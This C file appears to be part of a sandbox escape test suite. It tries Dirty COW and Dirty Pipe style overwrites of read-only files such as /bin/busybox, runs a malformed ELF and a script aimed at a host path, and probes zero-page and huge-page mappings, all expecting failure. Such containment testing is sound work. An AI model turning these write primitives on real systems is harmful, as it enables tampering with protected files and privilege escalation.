/* One's own memory as a way to write what is read-only. */
#include "attempts.h"

#include <elf.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>

/* "Dirty COW" and its kind: a private map of a file, written through /proc/self/mem. The file must
 * stay what it was; the driver compares the input folder and the image outside. */
static long writeThroughMemory(const char *path)
{
    struct stat status;
    const int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0 || fstat(file, &status) != 0)
        return -1;
    void *map = mmap(NULL, (size_t)status.st_size, PROT_READ, MAP_PRIVATE, file, 0);
    char before;
    char after = 0;
    const int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (map == MAP_FAILED || pread(file, &before, 1, 0) != 1)
        return -1;
    const char other = (char)~before;
    if (memory >= 0 && pwrite(memory, &other, 1, (off_t)(uintptr_t)map) != 1)
        errno = EIO;
    madvise(map, (size_t)status.st_size, MADV_DONTNEED);
    const long changed = pread(file, &after, 1, 0) == 1 && after != before;
    close(memory);
    close(file);
    errno = EPERM;
    return changed ? 0 : -1;
}

/* "Dirty Pipe": bytes spliced into a pipe, then written over in place. */
static long writeThroughPipe(const char *path)
{
    int ends[2];
    char before;
    char after = 0;
    const int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0 || pipe2(ends, O_CLOEXEC) != 0 || pread(file, &before, 1, 1) != 1)
        return -1;
    static char page[4096];
    const int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= 4096)
        write(ends[1], page, 4096);
    for (int left = size; left > 0; left -= 4096)
        read(ends[0], page, 4096);
    off_t at = 0;
    splice(file, &at, ends[1], NULL, 1, 0);
    const char other = (char)~before;
    write(ends[1], &other, 1);
    const long changed = pread(file, &after, 1, 1) == 1 && after != before;
    close(file);
    close(ends[0]);
    close(ends[1]);
    errno = EPERM;
    return changed ? 0 : -1;
}

/* An ELF whose interpreter lies outside, and one that is a script over a folder of the host. */
static long strangeProgram(const char *name, const void *bytes, size_t size)
{
    const int file = open(name, O_CREAT | O_TRUNC | O_WRONLY, 0755);
    if (file < 0 || write(file, bytes, size) != (ssize_t)size)
        return -1;
    close(file);
    const pid_t child = fork();
    if (child == 0) {
        execl(name, name, NULL);
        _exit(errno == ENOENT ? 101 : 102);
    }
    int status = 0;
    waitpid(child, &status, 0);
    errno = WEXITSTATUS(status) == 101 ? ENOENT : ENOEXEC;
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1;
}

static void programs(void)
{
    const char script[] = "#!" HOST_WALLET "\n";
    TRY("291.script_of_host_program", strangeProgram("/tmp/script", script, sizeof(script) - 1));
    const Elf64_Ehdr garbage = {.e_ident = ELFMAG "\2\1\1", .e_type = ET_EXEC, .e_machine = 62,
        .e_phoff = ~0ULL, .e_phentsize = sizeof(Elf64_Phdr), .e_phnum = 0xFFFF};
    TRY("291.broken_elf", strangeProgram("/tmp/elf", &garbage, sizeof(garbage)));
    TRY("292.seal_output", fcntl(1, F_ADD_SEALS, 1));
    TRY("292.seals_of_policy", fcntl(3, F_GET_SEALS));
}

static void wild(void)
{
    /* No page at zero, whatever the pointer bugs of a kernel. */
    TRY("293.map_zero_page",
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0)
                == MAP_FAILED
            ? -1
            : 0);
    TRY("293.huge_pages", mmap(NULL, 1 << 21, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB,
                              -1, 0)
                == MAP_FAILED
            ? -1
            : 0);
}

void tryMemory(void)
{
    TRY("290.image_through_memory", writeThroughMemory("/bin/busybox"));
    TRY("290.in_through_memory", writeThroughMemory("/iexec_in/big"));
    TRY("290.image_through_pipe", writeThroughPipe("/bin/busybox"));
    TRY("290.in_through_pipe", writeThroughPipe("/iexec_in/big"));
    programs();
    wild();
}
